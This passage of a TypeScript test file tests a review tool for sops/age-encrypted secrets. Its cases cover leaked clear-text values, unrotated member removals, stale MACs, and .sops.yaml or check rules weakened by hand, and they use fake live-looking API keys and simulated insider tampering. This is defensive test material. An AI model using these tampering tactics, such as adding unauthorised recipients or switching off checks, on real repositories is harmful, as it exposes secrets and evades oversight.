    renamedBob["stellar.yaml"] = config({ staging: { alice: alice.recipient }, prod: { alice: alice.recipient, bob: bob.recipient } });
    expect(buildReview(at("base", withBob), at("head", renamedBob)).problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    // the rename alone, every stanza kept, is clean
    const whole = renamedTo(withBob[PROD] as string);
    whole["stellar.yaml"] = config({ staging: { alice: alice.recipient }, prod: { alice: alice.recipient, bob: bob.recipient } });
    expect(buildReview(at("base", withBob), at("head", whole)).problems).toEqual([]);
  });

  it("flags a hand edit under a mac and lastmodified pasted from an older version of the base's history (an entry deleted), and two values swapped, as stale-mac", async () => {
    const { alice, base } = await project();
    const v1 = base[PROD] as string;
    const d = await decryptSecrets(v1, [alice.identity]);
    const v2 = await reencryptSecrets(d, new Map([...d.values, ["hubspot_api_token", "hs_token_new"], ["zendesk_api_token", "zd_1"]]), { now: new Date(Date.now() + 60_000) });
    const meta = (text: string, key: string): string => (new RegExp(`^ {4}${key}: .*$`, "m").exec(text) as RegExpExecArray)[0];
    const paste = (text: string, from: string): string => text.replace(meta(text, "mac"), meta(from, "mac")).replace(meta(text, "lastmodified"), meta(from, "lastmodified"));
    const deleted = paste(v2.replace(/^zendesk_api_token: .*\n/m, ""), v1);
    const earlierVersions = new Map([[PROD, [{ commit: "c1".repeat(20), text: v1 }]]]);
    const report = buildReview(at("base", { ...base, [PROD]: v2 }), at("head", { ...base, [PROD]: deleted }), new Map(), { earlierVersions });
    expect(report.problems.map((p) => [p.kind, report.diagnostics.find((x) => x.rule === "stale-mac")?.file])).toEqual([["checker-error", PROD]]);
    // compared with the base alone it looked like a real write (another mac, another lastmodified)
    expect(buildReview(at("base", { ...base, [PROD]: v2 }), at("head", { ...base, [PROD]: deleted })).problems.filter((p) => p.kind === "checker-error")).toEqual([]);
    // two values swapped (any mac): each holds the ciphertext the base stores under the other name
    const enc = (text: string, name: string): string => (new RegExp(`^${name}: (.*)$`, "m").exec(text) as RegExpExecArray)[1] as string;
    const swapped = paste(v2, v1).replace(/^stripe_api_key: .*$/m, `stripe_api_key: ${enc(v2, "legacy_api_token")}`).replace(/^legacy_api_token: .*$/m, `legacy_api_token: ${enc(v2, "stripe_api_key")}`);
    const swap = buildReview(at("base", { ...base, [PROD]: v2 }), at("head", { ...base, [PROD]: swapped }));
    expect(swap.diagnostics.filter((x) => x.rule === "stale-mac").map((x) => x.secret).sort()).toEqual(["legacy_api_token", "stripe_api_key"]);
    expect(swap.clean).toBe(false);
  });

  it("does not report a stale-mac file the change did not touch (a hand merge already on main) as a problem of a branch that changes only a config file (planted-history)", async () => {
    const { alice, base } = await project();
    const v1 = base[PROD] as string;
    const d = await decryptSecrets(v1, [alice.identity]);
    const v2 = await reencryptSecrets(d, new Map([...d.values, ["zendesk_api_token", "zd_1"]]), { now: new Date(Date.now() + 60_000) });
    const meta = (text: string, key: string): string => (new RegExp(`^ {4}${key}: .*$`, "m").exec(text) as RegExpExecArray)[0];
    const stale = v2.replace(meta(v2, "mac"), meta(v1, "mac")).replace(meta(v2, "lastmodified"), meta(v1, "lastmodified"));
    const earlierVersions = new Map([[PROD, [{ commit: "c1".repeat(20), text: v1 }]]]);
    const onMain = { ...base, [PROD]: stale };
    const branch = { ...onMain, [STRIPE]: `${onMain[STRIPE] as string}description: Stripe\n` };
    const report = buildReview(at("base", onMain), at("head", branch), new Map(), { earlierVersions });
    expect(report.problems.filter((p) => p.message.startsWith("stale-mac"))).toEqual([]);
    // the change that made it stale is still reported
    expect(buildReview(at("base", base), at("head", onMain), new Map(), { earlierVersions }).problems.filter((p) => p.message.startsWith("stale-mac")).map((p) => p.file)).toEqual([PROD]);
  });

  it("flags a key added to the file of an environment stellar.yaml does not declare (the resolver still serves it): no one is a member there", async () => {
    const { alice, base } = await project();
    const undeclared: Files = { ...base, "stellar.yaml": config({ production: { alice: alice.recipient } }) };
    const eve = await generateIdentity();
    const d = await decryptSecrets(base[STAGING] as string, [alice.identity]);
    const withEve = await updateKeys(d, [alice.recipient, eve.recipient]);
    const report = buildReview(at("base", undeclared), at("head", { ...undeclared, [STAGING]: withEve }));
    expect(report.problems.map((p) => [p.kind, p.environment])).toEqual([["non-member-recipient", "staging"]]);
    expect(report.problems[0]?.message).toContain(eve.recipient);
    expect(report.problems[0]?.message).toContain("stellar.yaml does not declare staging");
    // the environment's declaration removed while its file stays: its recipients are not new (the checker reports the file)
    expect(buildReview(at("base", base), at("head", undeclared)).problems.filter((p) => p.kind === "non-member-recipient")).toEqual([]);
  });

  it("says when a value's ciphertext is one an earlier version stored under that name (a restore or a rollback, keyless): its value at that commit again", async () => {
    const { alice, base } = await project();
    const v1 = base[PROD] as string;
    const d = await decryptSecrets(v1, [alice.identity]);
    const v2 = await reencryptSecrets(d, new Map([...d.values, ["stripe_api_key", "sk_live_rotated_9999"]]), { now: new Date(Date.now() + 60_000) });
    const c1 = "c1".repeat(20);
    const earlierVersions = new Map([[PROD, [{ commit: c1, text: v1 }]]]);
    // the whole old file put back (its own mac: it decrypts), which no keyless review told from a new value
    const report = buildReview(at("base", { ...base, [PROD]: v2 }), at("head", { ...base, [PROD]: v1 }), new Map(), { earlierVersions });
    expect(env(report, "production").secrets).toEqual([{ name: "stripe_api_key", change: "changed", before: expect.any(String), after: expect.any(String), restoredFrom: c1 }]);
    // a value set anew is no restore
    const d2 = await decryptSecrets(v2, [alice.identity]);
    const v3 = await reencryptSecrets(d2, new Map([...d2.values, ["stripe_api_key", "sk_live_again_0000"]]));
    expect(env(buildReview(at("base", { ...base, [PROD]: v2 }), at("head", { ...base, [PROD]: v3 }), new Map(), { earlierVersions }), "production").secrets[0]?.restoredFrom).toBeUndefined();
  });

  it("flags a value in clear text in a commit of the range that a later one encrypted or removed again: the merged history holds it", async () => {
    const { base } = await project();
    const c1 = "c1".repeat(20);
    const leaked = `zendesk_api_token: zd_live_5f8a9b7c6d5e4f3a2b1c\n${base[PROD] as string}`;
    const report = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: leaked }] });
    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["plaintext", "production", PROD, c1]]);
    expect(report.problems[0]?.message).toContain("holds the value of zendesk_api_token in clear text");
    expect(JSON.stringify(report)).not.toContain("zd_live_5f8a9b7c6d5e4f3a2b1c");
    // the same clear value at the head is the head's problem, once; one the base had is not this change's
    const atHead = buildReview(at("base", base), at("head", { ...base, [PROD]: leaked }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: leaked }] });
    expect(atHead.problems.filter((p) => p.kind === "plaintext")).toHaveLength(1);
    expect(atHead.problems.find((p) => p.kind === "plaintext")?.commit).toBeUndefined();
    expect(buildReview(at("base", { ...base, [PROD]: leaked }), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: leaked }] }).problems.filter((p) => p.kind === "plaintext")).toEqual([]);
  });

  it("flags a value or a credential in clear text in a commit of an earlier push (--previous-head) that the range no longer holds: pushed is pushed, a force-push does not take it back", async () => {
    const { base } = await project();
    const c1 = "e1".repeat(20);
    const token = "sk_live_FAKEFAKEFAKEFAKE0000";
    const leaked = `zendesk_api_token: zd_live_5f8a9b7c6d5e4f3a2b1c\n${base[PROD] as string}`;
    const earlierPushVersions = [
      { commit: c1, path: PROD, text: leaked },
      { commit: c1, path: STRIPE, text: `${base[STRIPE] as string}# was ${token}\n` },
    ];
    const report = buildReview(at("base", base), at("head", base), new Map(), { earlierPushVersions });
    expect(report.problems.map((p) => [p.kind, p.file, p.commit])).toEqual([
      ["plaintext", PROD, c1],
      ["plaintext", STRIPE, c1],
    ]);
    expect(report.problems[0]?.message).toBe(
      `${PROD} at commit ${c1.slice(0, 10)} of an earlier push of this change (given with --previous-head; the range no longer holds it: the branch was rewritten) holds the value of zendesk_api_token in clear text: it was pushed, and a force-push does not take it back (the remote keeps the commit, and clones and forks that fetched it have it); treat it as leaked and change it at the provider`,
    );
    expect(report.problems[1]?.message).toContain("Stripe live secret key");
    expect(JSON.stringify(report)).not.toContain("zd_live_5f8a9b7c6d5e4f3a2b1c");
    expect(JSON.stringify(report)).not.toContain(token);
    // the same clear value in a commit of the range too: reported once, as the range's
    const both = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: "c1".repeat(20), path: PROD, text: leaked }], earlierPushVersions: earlierPushVersions.slice(0, 1) });
    expect(both.problems.map((p) => [p.kind, p.commit])).toEqual([["plaintext", "c1".repeat(20)]]);
  });

  it("reads the environment files of a secrets folder that only the range's commits had (moved to vault/ by stellar.yaml, then back): plaintext, unrotated-removal, exposedDuring", async () => {
    const { alice, base } = await project();
    const { bob, withBob } = await bobJoinsProduction(alice, base);
    const c1 = "c1".repeat(20);
    const c2 = "c2".repeat(20);
    const inVault = `secrets_dir: vault\n${base["stellar.yaml"] as string}`;
    const leaked = `zendesk_api_token: zd_live_5f8a9b7c6d5e4f3a2b1c\n${base[PROD] as string}`;
    // commit 1 moves the folder to vault/ (stellar.yaml) and writes a clear value there; commit 2 moves it back
    const moved = [
      { commit: c1, path: "stellar.yaml", text: inVault },
      { commit: c1, path: "vault/production.enc.yaml", text: leaked },
    ];
    const report = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: moved });
    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["plaintext", "production", "vault/production.enc.yaml", c1]]);
    expect(JSON.stringify(report)).not.toContain("zd_live_5f8a9b7c6d5e4f3a2b1c");
    // the data key wrapped for bob there, in a folder neither side has: unrotated-removal, and bob's access in between
    const wrapped = [
      { commit: c1, path: "stellar.yaml", text: inVault },
      { commit: c2, path: "vault/production.enc.yaml", text: withBob[PROD] as string },
    ];
    const rewrapped = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: wrapped });
    expect(rewrapped.problems.map((p) => [p.kind, p.environment, p.commit])).toEqual([["unrotated-removal", "production", c2]]);
    expect(env(rewrapped, "production").exposedDuring).toEqual([{ recipient: bob.recipient, commit: c2, secrets: ["hubspot_api_token", "legacy_api_token", "stripe_api_key"] }]);
    // without the stellar.yaml that named vault/, a file there is no environment's (a fixture's)
    expect(buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: moved.slice(1) }).problems).toEqual([]);
  });

  it("flags a credential in clear text in a project file at a commit of the range that a later one took out again (stellar.yaml, a config file's line, an environment file's comment)", async () => {
    const { base } = await project();
    const c1 = "c1".repeat(20);
    const token = "sk_live_FAKEFAKEFAKEFAKE0000";
    const versions = [
      { commit: c1, path: "stellar.yaml", text: `${base["stellar.yaml"] as string}# old key: ${token}\n` },
      { commit: c1, path: STRIPE, text: `${base[STRIPE] as string}# was ${token}\n` },
      { commit: c1, path: PROD, text: `# copy: ${token}\n${base[PROD] as string}` },
      { commit: c1, path: "notes/todo.md.yaml.bak", text: token },
    ];
    const report = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: versions });
    expect(report.problems.map((p) => [p.kind, p.file, p.line, p.commit])).toEqual([
      ["plaintext", "stellar.yaml", 9, c1],
      ["plaintext", STRIPE, 5, c1],
      ["plaintext", PROD, 1, c1],
    ]);
    expect(report.problems[0]?.message).toContain("Stripe live secret key");
    expect(JSON.stringify(report)).not.toContain(token);
    // one the base's (or the head's) file holds is not this change's to report here
    const had = { ...base, [STRIPE]: versions[1]!.text };
    expect(buildReview(at("base", had), at("head", had), new Map(), { rangeVersions: versions.slice(1, 2) }).problems).toEqual([]);
  });

  it("finds a hand edit in a moved secrets folder without git's rename detection (a heuristic with limits): the base's file of the same environment is compared", async () => {
    const { base } = await project();
    const moved: Files = { "stellar.yaml": `secrets_dir: vault\n${base["stellar.yaml"] as string}`, [STRIPE]: base[STRIPE] as string };
    moved["vault/staging.enc.yaml"] = base[STAGING] as string;
    // a value line deleted by hand: the mac and lastmodified stay the committed ones
    moved["vault/production.enc.yaml"] = (base[PROD] as string).replace(/^legacy_api_token: .*\n/m, "");
    const staleMac = (renamed: Map<string, string>) =>
      buildReview(at("base", base), at("head", moved), renamed).problems.filter((p) => p.message.startsWith("stale-mac")).map((p) => p.file);
    expect(staleMac(new Map())).toEqual(["vault/production.enc.yaml"]);
    expect(staleMac(new Map([["vault/production.enc.yaml", PROD]]))).toEqual(["vault/production.enc.yaml"]);
    // moved honestly: nothing
    moved["vault/production.enc.yaml"] = base[PROD] as string;
    expect(staleMac(new Map())).toEqual([]);
  });

  it("flags a stellar.yaml removal whose file can still be decrypted by the member (recipient drift)", async () => {
    const { alice, base } = await project();
    const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
    const report = buildReview(at("HEAD", withBob), at("working tree", { ...withBob, "stellar.yaml": base["stellar.yaml"] as string }));
    expect(env(report, "production").members.lost.map((m) => m.name)).toEqual(["bob"]);
    expect(env(report, "production").recipients.lost).toEqual([]);
    expect(report.diagnostics.find((d) => d.rule === "recipient-drift")).toMatchObject({ severity: "error", file: PROD, new: true });
    // bob's key still opens the file but he is no member: one problem (not also the checker's drift error)
    expect(report.problems.map((p) => p.kind)).toEqual(["non-member-recipient"]);
    // a member's name says who: their key is shortened (a whole age key wraps a terminal line and the comment)
    expect(report.problems[0]?.message).toContain(`bob (${bob.recipient.slice(0, 10)}…${bob.recipient.slice(-6)}) can decrypt ${PROD} but is not a member of production in stellar.yaml`);
    expect(report.problems[0]?.message).not.toContain(bob.recipient);
    // the checker's drift on the same key names who it was (the base knows), not "not a member of any environment"
    const drift = report.diagnostics.find((d) => d.rule === "recipient-drift")?.message;
    expect(drift).toContain(`${bob.recipient} (bob's key: a member in the base, in no environment now)`);
    expect(drift).not.toContain("not a member of any environment");
  });

  it("tells a member removed from stellar.yaml by hand, whose key still opens 3 files and .sops.yaml, as one cause over its 6 problems", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const ENVS = ["development", "staging", "production"];
    const both = { alice: alice.recipient, bob: bob.recipient };
    const files: Files = { "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, both]))) };
    for (const e of ENVS) files[`secrets/${e}.enc.yaml`] = await encryptSecrets(new Map([["api_key", `v-${e}`]]), { recipients: [alice.recipient, bob.recipient] });
    files[".sops.yaml"] = `creation_rules:\n${ENVS.map((e) => `  - path_regex: secrets/${e}\\.enc\\.yaml$\n    age: ${alice.recipient},${bob.recipient}\n`).join("")}`;
    // bob deleted from stellar.yaml by editing it; the files and .sops.yaml left as they were
    const head: Files = { ...files, "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, { alice: alice.recipient }]))) };
    const report = buildReview(at("HEAD", files), at("working tree", head));
    // every finding is still a problem (the exit status and --json are as before)
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["non-member-recipient", "secrets/development.enc.yaml"],
      ["non-member-recipient", "secrets/staging.enc.yaml"],
      ["non-member-recipient", "secrets/production.enc.yaml"],
      ["checker-error", ".sops.yaml"],
      ["checker-error", ".sops.yaml"],
      ["checker-error", ".sops.yaml"],
    ]);
    expect(report.summary.problems).toBe(6);
    expect(report.clean).toBe(false);
    // ... each carrying the one cause's id
    expect(new Set(report.problems.map((p) => p.cause))).toEqual(new Set(["member-removed-by-hand:bob"]));
    expect(report.causes).toHaveLength(1);
    const cause = report.causes?.[0];
    expect(cause).toMatchObject({
      id: "member-removed-by-hand:bob",
      kind: "member-removed-by-hand",
      member: "bob",
      recipient: bob.recipient,
      environments: ENVS,
      files: ["secrets/development.enc.yaml", "secrets/staging.enc.yaml", "secrets/production.enc.yaml", ".sops.yaml"],
      problems: 6,
    });
    expect(cause?.message).toContain("bob");
    expect(cause?.message).toContain("3 files (secrets/development.enc.yaml, secrets/staging.enc.yaml, secrets/production.enc.yaml)");
    expect(cause?.message).toContain("`stellar-secrets members rm bob`");
    expect(cause?.message).toContain("`stellar-secrets rotate-key --env production`");
    expect(cause?.message).not.toContain(bob.recipient);

    // one file only, nothing else naming the key: a single problem, no cause
    const one: Files = { ...files, "stellar.yaml": config({ development: { alice: alice.recipient }, staging: both, production: both }) };
    delete one[".sops.yaml"];
    const single = buildReview(at("HEAD", { ...files, ".sops.yaml": null }), at("working tree", { ...one, ".sops.yaml": null }));
    expect(single.causes).toBeUndefined();
    expect(single.problems.every((p) => p.cause === undefined)).toBe(true);
  });

  it("folds into a member's removed-by-hand cause no finding that also names another key: a key added to .sops.yaml in the same change stays a problem of its own", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const mallory = await generateIdentity();
    const ENVS = ["development", "production"];
    const both = { alice: alice.recipient, bob: bob.recipient };
    const files: Files = { "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, both]))) };
    for (const e of ENVS) files[`secrets/${e}.enc.yaml`] = await encryptSecrets(new Map([["api_key", `v-${e}`]]), { recipients: [alice.recipient, bob.recipient] });
    const rule = (e: string, keys: string[]) => `  - path_regex: secrets/${e}\\.enc\\.yaml$\n    age: ${keys.join(",")}\n`;
    files[".sops.yaml"] = `creation_rules:\n${ENVS.map((e) => rule(e, [alice.recipient, bob.recipient])).join("")}`;
    // bob deleted from stellar.yaml by hand, and in the same change mallory's key added to production's creation rule
    const head: Files = {
      ...files,
      "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, { alice: alice.recipient }]))),
      ".sops.yaml": `creation_rules:\n${rule("development", [alice.recipient, bob.recipient])}${rule("production", [alice.recipient, bob.recipient, mallory.recipient])}`,
    };
    const report = buildReview(at("HEAD", files), at("working tree", head));
    const naming = report.problems.filter((p) => p.message.includes(mallory.recipient));
    expect(naming.map((p) => [p.kind, p.file])).toEqual([["checker-error", ".sops.yaml"]]);
    // not hidden under bob's cause: text and Markdown show a problem without a cause on its own
    expect(naming[0]?.cause).toBeUndefined();
    // bob's cause keeps what names only his key
    expect(report.causes?.[0]).toMatchObject({ id: "member-removed-by-hand:bob", problems: 3, files: ["secrets/development.enc.yaml", "secrets/production.enc.yaml", ".sops.yaml"] });
    expect(report.problems.filter((p) => p.cause === undefined)).toHaveLength(1);
  });

  it("a key this change added to a .sops.yaml creation rule: sops-config-drift says that this change added it (the base's rule did not name it); a key the base's rule had keeps the generic wording", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const mallory = await generateIdentity();
    const ENVS = ["development", "production"];
    const files: Files = { "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, { alice: alice.recipient, bob: bob.recipient }]))) };
    for (const e of ENVS) files[`secrets/${e}.enc.yaml`] = await encryptSecrets(new Map([["api_key", `v-${e}`]]), { recipients: [alice.recipient, bob.recipient] });
    const rule = (e: string, keys: string[]) => `  - path_regex: secrets/${e}\\.enc\\.yaml$\n    age: ${keys.join(",")}\n`;
    files[".sops.yaml"] = `creation_rules:\n${ENVS.map((e) => rule(e, [alice.recipient, bob.recipient])).join("")}`;
    // bob deleted from stellar.yaml by hand (his key was in the base's rules), mallory's key added to production's rule
    const head: Files = {
      ...files,
      "stellar.yaml": config(Object.fromEntries(ENVS.map((e) => [e, { alice: alice.recipient }]))),
      ".sops.yaml": `creation_rules:\n${rule("development", [alice.recipient, bob.recipient])}${rule("production", [alice.recipient, mallory.recipient])}`,
    };
    const report = buildReview(at("HEAD", files), at("working tree", head));
    const added = report.problems.find((p) => p.message.includes(mallory.recipient));
    expect(added?.message).toContain("this change added them there: revert that in .sops.yaml (never make them members to silence this)");
    expect(added?.message).not.toContain("if a change added them there");
    expect(report.diagnostics.some((d) => added?.message === `${d.rule}: ${d.message}`)).toBe(true);
    const bobsOnly = report.diagnostics.filter((d) => d.rule === "sops-config-drift" && d.severity === "error" && !d.message.includes(mallory.recipient));
    expect(bobsOnly).toHaveLength(1);
    expect(bobsOnly[0]?.message).toContain("if a change added them there, revert it");
    // a rule naming both: the added key is said to be this change's, the other keeps the checker's fix
    const both: Files = { ...head, ".sops.yaml": `creation_rules:\n${rule("development", [alice.recipient])}${rule("production", [alice.recipient, bob.recipient, mallory.recipient])}` };
    const mixed = buildReview(at("HEAD", files), at("working tree", both)).problems.find((p) => p.message.includes(mallory.recipient));
    expect(mixed?.message).toContain(`this change added ${mallory.recipient} there: revert that in .sops.yaml (never make them members to silence this); for the others (e.g. they were removed as members), stellar.yaml is the source of truth`);
  });

  it("staging's and production's files swapped (one value each): the stanza bob lost in staging's file is told by what shows, production's data key, not as bob removed from staging with a rotation that cannot be told", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const files: Files = { "stellar.yaml": config({ staging: { alice: alice.recipient, bob: bob.recipient }, production: { alice: alice.recipient } }) };
    files[STAGING] = await encryptSecrets(new Map([["api_key", "s"]]), { recipients: [alice.recipient, bob.recipient] });
    files[PROD] = await encryptSecrets(new Map([["api_key", "p"]]), { recipients: [alice.recipient] });
    const report = buildReview(at("HEAD", files), at("working tree", { ...files, [STAGING]: files[PROD]!, [PROD]: files[STAGING]! }));
    const lost = report.problems.filter((p) => p.kind === "unrotated-removal");
    expect(lost.map((p) => p.environment)).toEqual(["staging"]);
    expect(lost[0]?.message).toContain("bob has no stanza in secrets/staging.enc.yaml any more, and stellar.yaml still lists bob as a member of staging: the head's file is under production's data key (it shares it with production's file secrets/production.enc.yaml in the base");
    expect(lost[0]?.message).toContain("not a rotation of staging's, so bob can no longer decrypt it, and whoever holds production's data key (production's members: alice) can: revert the change to secrets/staging.enc.yaml");
    expect(lost[0]?.message).not.toContain("was removed from staging");
    expect(lost[0]?.message).not.toContain("rotation cannot be told");
    // production's side is unchanged: bob gained access there, and both files share a data key
    expect(report.problems.filter((p) => p.kind === "non-member-recipient").map((p) => p.environment)).toEqual(["staging", "production", "production"]);
    // bob also taken out of staging in stellar.yaml: said so
    const gone = buildReview(
      at("HEAD", files),
      at("working tree", { ...files, "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient } }), [STAGING]: files[PROD]!, [PROD]: files[STAGING]! }),
    );
    expect(gone.problems.find((p) => p.kind === "unrotated-removal")?.message).toContain("bob has no stanza in secrets/staging.enc.yaml any more, and is no member of staging in stellar.yaml now");
  });

  it("a .sops.yaml change that takes members out of the rule plain sops uses for an environment's file (a rule without bob, a catch-all first, a path_regex that matches no more) is weakened-rule, not only the checker's warning", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const carol = await generateIdentity();
    const files: Files = { "stellar.yaml": config({ staging: { alice: alice.recipient, carol: carol.recipient }, production: { alice: alice.recipient, bob: bob.recipient } }) };
    files[STAGING] = await encryptSecrets(new Map([["api_key", "s"]]), { recipients: [alice.recipient, carol.recipient] });
    files[PROD] = await encryptSecrets(new Map([["api_key", "p"]]), { recipients: [alice.recipient, bob.recipient] });
    const rule = (re: string, keys: string[]) => `  - path_regex: ${re}\n    age: ${keys.join(",")}\n`;
    const stagingRule = rule("secrets/staging\\.enc\\.yaml$", [alice.recipient, carol.recipient]);
    files[".sops.yaml"] = `creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient, bob.recipient])}`;
    const review = (sops: string | null) => buildReview(at("HEAD", files), at("working tree", { ...files, ".sops.yaml": sops }));
    const dropped = (sops: string | null) => review(sops).problems.filter((p) => p.kind === "weakened-rule").map((p) => [p.environment, p.file, p.line, p.message]);

    // bob left out of production's rule: the checker only warns (sops-config-drift), the review says what the change does
    const noBob = review(`creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient])}`);
    expect(noBob.diagnostics.filter((d) => d.rule === "sops-config-drift").map((d) => d.severity)).toEqual(["warning"]);
    expect(noBob.clean).toBe(false);
    expect(noBob.problems).toMatchObject([{ kind: "weakened-rule", environment: "production", file: ".sops.yaml", line: 5 }]);
    expect(noBob.problems[0]?.message).toContain(`creation rule 2 of .sops.yaml, which the plain sops CLI now uses for secrets/production.enc.yaml, does not name bob (${bob.recipient}), a member of production whom the base's rule named`);
    expect(noBob.problems[0]?.message).toContain("git checkout BASE -- .sops.yaml");
    // a catch-all put first: every environment's file now gets its keys
    expect(dropped(`creation_rules:\n${rule(".*", [alice.recipient])}${files[".sops.yaml"]!.slice("creation_rules:\n".length)}`).map(([e, , line]) => [e, line])).toEqual([
      ["staging", 3],
      ["production", 3],
    ]);
    // the path_regex of production's rule made to match another file: sops refuses to update it
    const noMatch = dropped(`creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yml$", [alice.recipient, bob.recipient])}`);
    expect(noMatch.map(([e, , line]) => [e, line])).toEqual([["production", 1]]);
    expect(noMatch[0]?.[3]).toContain("no creation rule of .sops.yaml matches secrets/production.enc.yaml any more");
    // no rules at all: the checker says nothing, the review names both environments
    expect(dropped("creation_rules: []\n").map(([e]) => e)).toEqual(["staging", "production"]);
    // carol (staging's) in place of bob: the checker's error about carol stays, beside bob's problem at the same rule
    const swapped = review(`creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient, carol.recipient])}`);
    expect(swapped.problems.map((p) => p.kind).sort()).toEqual(["checker-error", "weakened-rule"]);
    // not: the file deleted (the next members add or rm writes it anew), the rules unchanged, a member added, bob removed from stellar.yaml and the rule (members rm)
    expect(dropped(null)).toEqual([]);
    expect(dropped(files[".sops.yaml"]!)).toEqual([]);
    // bob's key written in capitals (sops and age read it as the same key)
    expect(dropped(`creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient, bob.recipient.toUpperCase()])}`)).toEqual([]);
    const dave = await generateIdentity();
    expect(dropped(`creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient, bob.recipient, dave.recipient])}`)).toHaveLength(0);
    const bobRemoved: Files = {
      ...files,
      "stellar.yaml": config({ staging: { alice: alice.recipient, carol: carol.recipient }, production: { alice: alice.recipient } }),
      [PROD]: await rotateDataKey(await decryptSecrets(files[PROD]!, [alice.identity]), { recipients: [alice.recipient] }),
      ".sops.yaml": `creation_rules:\n${stagingRule}${rule("secrets/production\\.enc\\.yaml$", [alice.recipient])}`,
    };
    expect(buildReview(at("HEAD", files), at("working tree", bobRemoved)).problems.filter((p) => p.kind === "weakened-rule")).toEqual([]);
    // a secrets/.sops.yaml new in the change is compared with the root's that plain sops found from there before
    const deeper = buildReview(at("HEAD", files), at("working tree", { ...files, "secrets/.sops.yaml": `creation_rules:\n${rule("staging\\.enc\\.yaml$", [alice.recipient, carol.recipient])}${rule("production\\.enc\\.yaml$", [alice.recipient])}` }));
    expect(deeper.problems.map((p) => [p.kind, p.environment, p.file])).toEqual([["weakened-rule", "production", "secrets/.sops.yaml"]]);
    expect(deeper.problems[0]?.message).toContain("git rm secrets/.sops.yaml");
  });

  it("counts secrets in the summary, besides values: a secret added to two environments is one secret, two values", async () => {
    const { alice, base } = await project();
    const staging = await decryptSecrets(base[STAGING] as string, [alice.identity]);
    const prod = await decryptSecrets(base[PROD] as string, [alice.identity]);
    const head: Files = {
      ...base,
      [STAGING]: await reencryptSecrets(staging, new Map([...staging.values, ["zendesk_api_token", "z1"]])),
      [PROD]: await reencryptSecrets(prod, new Map([...[...prod.values].filter(([k]) => k !== "legacy_api_token"), ["zendesk_api_token", "z2"], ["openai_api_key", "o1"], ["hubspot_api_token", "h2"]])),
    };
    const report = buildReview(at("HEAD", base), at("working tree", head));
    expect(report.summary).toMatchObject({ added: 3, secretsAdded: 2, changed: 1, secretsChanged: 1, removed: 1, secretsRemoved: 1 });
  });

  it("a change cannot weaken its own checks: weakened rules are problems, and the base's severities judge the change", async () => {
    const { alice, base } = await project();
    const carol = await generateIdentity();
    const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
    // a non-member recipient added by hand, with the drift check turned off in the same change
    const sneaky = buildReview(
      at("HEAD~1", base),
      at("HEAD", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}rules:\n  recipient-drift: off\n`, [PROD]: await updateKeys(prev, [alice.recipient, carol.recipient]) }),
    );
    expect(sneaky.problems.map((p) => p.kind).sort()).toEqual(["non-member-recipient", "weakened-rule"]);
    expect(sneaky.problems.find((p) => p.kind === "weakened-rule")).toMatchObject({ file: "stellar.yaml", line: 10 });
    expect(sneaky.problems.find((p) => p.kind === "weakened-rule")?.message).toContain("stellar.yaml weakens rule recipient-drift from error to off");
    expect(sneaky.problems.find((p) => p.kind === "non-member-recipient")?.message).toContain(`${carol.recipient} can decrypt ${PROD} but is not a member of production in stellar.yaml`);
    expect(env(sneaky, "production").recipients.gained).toEqual([{ recipient: carol.recipient }]);
    // judged by the base's rules: the drift error is still reported
    expect(sneaky.diagnostics.find((d) => d.rule === "recipient-drift")).toMatchObject({ severity: "error", new: true, file: PROD });
    expect(sneaky.clean).toBe(false);

    // a removed secret still referenced, with its rule lowered to a warning in the same change
    const withoutStripe = await reencryptSecrets(prev, new Map([...prev.values].filter(([n]) => n !== "stripe_api_key")));
    const lowered = buildReview(
      at("HEAD", base),
      at("working tree", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}rules:\n  missing-environment-value: warning\n`, [PROD]: withoutStripe }),
    );
    expect(lowered.problems.map((p) => p.kind).sort()).toEqual(["checker-error", "weakened-rule"]);
    expect(lowered.problems.find((p) => p.kind === "weakened-rule")?.message).toContain("stellar.yaml weakens rule missing-environment-value from error to warning");
    expect(lowered.diagnostics.find((d) => d.rule === "missing-environment-value")).toMatchObject({ severity: "error", new: true, secret: "stripe_api_key" });

    // raising a severity is not a weakening
    expect(buildReview(at("HEAD", base), at("working tree", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}rules:\n  recipient-drift: error\n` })).problems).toEqual([]);
  });

  it("names a config file the change edits that uses a secret whose value it changes (a new key for a new endpoint), not one it leaves alone", async () => {
    const { alice, base } = await project();
    const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
